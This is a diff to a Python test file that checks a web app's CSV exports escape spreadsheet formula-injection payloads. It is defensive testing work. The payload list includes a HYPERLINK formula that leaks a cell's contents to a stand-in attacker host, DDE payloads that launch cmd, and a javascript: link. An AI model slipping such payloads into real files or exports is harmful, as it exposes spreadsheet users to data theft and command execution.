@@ -4,6 +4,8 @@ one piece of executable markup in any of them, and no 500."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from datetime import UTC, date, datetime, timedelta
 
@@ -204,9 +206,7 @@ def test_no_page_or_partial_renders_executable_markup(world, admin_user, member)
 
 def test_exports_keep_payloads_inert(client_as, world, cmo):
     csv_body = b"".join(client_as(cmo).get("/snags/export.csv?status=all").streaming_content).decode()
-    for line in csv_body.splitlines()[1:]:
-        first_cell_of_title = line.split(",", 2)[1] if "," in line else ""
-        assert not first_cell_of_title.startswith(("=", "+", "-", "@"))
+    assert formula_cells(csv_body)[0] == []
     md = client_as(cmo).get("/reviews/2026/q4/export.md")
     assert md.status_code == 200 and md["Content-Type"].startswith("text/markdown")
 
@@ -228,3 +228,79 @@ def test_a_meeting_agenda_link_must_be_a_web_address(client_as, world, cmo):
     response = client_as(cmo).post(f"/meetings/{meeting.pk}/agenda/add/", {"title": "x", "link": "javascript:alert(1)"})
     assert response.status_code == 422 and "Use a web address" in response.content.decode()
     assert not lm.AgendaItem.objects.filter(meeting=meeting, title="x").exists()
+
+
+# --- CSV: spreadsheet formulas ---------------------------------------------------------------
+#: a spreadsheet reads a cell that starts with one of these as a formula (tab and CR too: some programs drop them
+#: and read what follows); ``collab.lib.csvsafe`` must make every such cell text
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_PAYLOADS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def csv_exports() -> list[str]:
+    """Every CSV download of the URL conf (routes ending in ``.csv``)."""
+    return ["/" + r for r in all_routes() if r.endswith(".csv")]
+
+
+@pytest.fixture
+def formula_world(cmo, cio, member):
+    from collab.projects.tools.models import Tool
+    from parkinglot.models import Snag
+
+    project = pm.Project.objects.create(
+        name=FORMULA_PAYLOADS[4], marketing_sponsor=cmo, it_sponsor=cio, status="requirements", rank=1
+    )
+    member.first_name, member.last_name = FORMULA_PAYLOADS[0], ""
+    member.save()
+    for payload in FORMULA_PAYLOADS:
+        snag = snag_services.snag_create(raised_by=member, title="placeholder", project=project)
+        Snag.objects.filter(pk=snag.pk).update(title=payload)  # as an import or the admin could store it
+        tool = tool_services.tool_register(by=cio, name=f"tool {len(payload)}", category="crm", business_owner=member)
+        Tool.objects.filter(pk=tool.pk).update(name=payload, vendor=FORMULA_PAYLOADS[5])
+
+
+def formula_cells(body: str) -> tuple[list[str], int]:
+    """The cells of a CSV file (read with the ``csv`` module) that a spreadsheet would run, and how many cells
+    held a payload (escaped)."""
+    rows = list(csv.reader(io.StringIO(body, newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    escaped = sum(1 for cell in cells if cell.startswith("'") and cell[1:] in FORMULA_PAYLOADS)
+    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)], escaped
+
+
+def test_every_csv_export_makes_formula_cells_text(client_as, cmo, formula_world):
+    exports = csv_exports()
+    assert {"/snags/export.csv", "/tools/export.csv"} <= set(exports)
+    for url in exports:
+        response = client_as(cmo).get(url, {"status": "all"})
+        assert response.status_code == 200, url
+        body = b"".join(response.streaming_content) if response.streaming else response.content
+        dangerous, escaped = formula_cells(body.decode())
+        assert dangerous == [], (url, dangerous[:5])
+        assert escaped >= len(FORMULA_PAYLOADS), (url, escaped)  # the payloads are in the file, escaped
+
+
+def test_the_formula_check_catches_an_unescaped_cell():
+    dangerous, _ = formula_cells('code,title\r\nSNAG-1,"=1+1"\r\nSNAG-2,"\t=2"\r\nSNAG-3,"\r=3"\r\n')
+    assert dangerous == ["=1+1", "\t=2", "\r=3"]
+
+
+def test_only_the_csv_helper_writes_csv():
+    """Every CSV download goes through ``collab.lib.csvsafe``: no other module writes CSV or says text/csv."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    writers = [
+        str(path.relative_to(root))
+        for folder in ("collab", "parkinglot", "liaison", "reviews")
+        for path in (root / folder).rglob("*.py")
+        if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text())
+    ]
+    assert writers == [], writers
